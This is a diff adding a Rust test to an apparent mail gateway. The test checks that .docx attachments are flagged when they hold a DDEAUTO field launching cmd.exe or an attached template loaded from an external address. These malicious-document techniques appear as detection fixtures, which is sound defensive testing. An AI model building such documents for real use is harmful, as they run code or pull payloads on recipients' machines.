@@ -381,3 +381,54 @@ fn written_by(
     );
     std::fs::read(dir.join(name)).unwrap()
 }
+
+/// A `.docx` (a zip of XML parts) with `part` beside its main document.
+fn docx_with(part: (&str, &[u8])) -> Vec<u8> {
+    zip_of(&[
+        ("[Content_Types].xml", b"<Types/>".as_slice()),
+        (
+            "word/document.xml",
+            b"<w:document><w:body/></w:document>".as_slice(),
+        ),
+        part,
+    ])
+}
+
+#[test]
+fn documents_that_start_a_program_or_load_one_from_the_network_are_tagged() {
+    let internal = InternalServer::start();
+    let gw = gateway(&internal, "");
+    let dde = docx_with((
+        "word/footer1.xml",
+        b"<w:ftr><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:ftr>",
+    ));
+    let template = docx_with((
+        "word/_rels/settings.xml.rels",
+        b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/></Relationships>",
+    ));
+    let cases = [
+        (dde, "OFFICE_DDE=5.00"),
+        (template, "OFFICE_REMOTE_OBJECT=5.00"),
+    ];
+    for (i, (doc, symbol)) in cases.into_iter().enumerate() {
+        let msg =
+            message_with_attachment("notice", "notice.docx", "application/octet-stream", &doc);
+        let r = send(&gw, &msg);
+        assert_eq!(r.code, 250, "{r:?}");
+        let got = internal.expect_messages(i + 1);
+        let rules = got[i].header("X-Spam-Rules").unwrap_or_default();
+        assert!(rules.contains(symbol), "{symbol}: {rules}");
+        let status = got[i].header("X-Spam-Status").unwrap_or_default();
+        assert!(status.starts_with("Yes"), "{status}");
+    }
+    // The same document without either: nothing of the kind.
+    let plain = docx_with(("word/styles.xml", b"<w:styles/>".as_slice()));
+    let r = send(
+        &gw,
+        &message_with_attachment("notice", "notice.docx", "application/octet-stream", &plain),
+    );
+    assert_eq!(r.code, 250, "{r:?}");
+    let got = internal.expect_messages(3);
+    let rules = got[2].header("X-Spam-Rules").unwrap_or_default();
+    assert!(!rules.contains("OFFICE_"), "{rules}");
+}
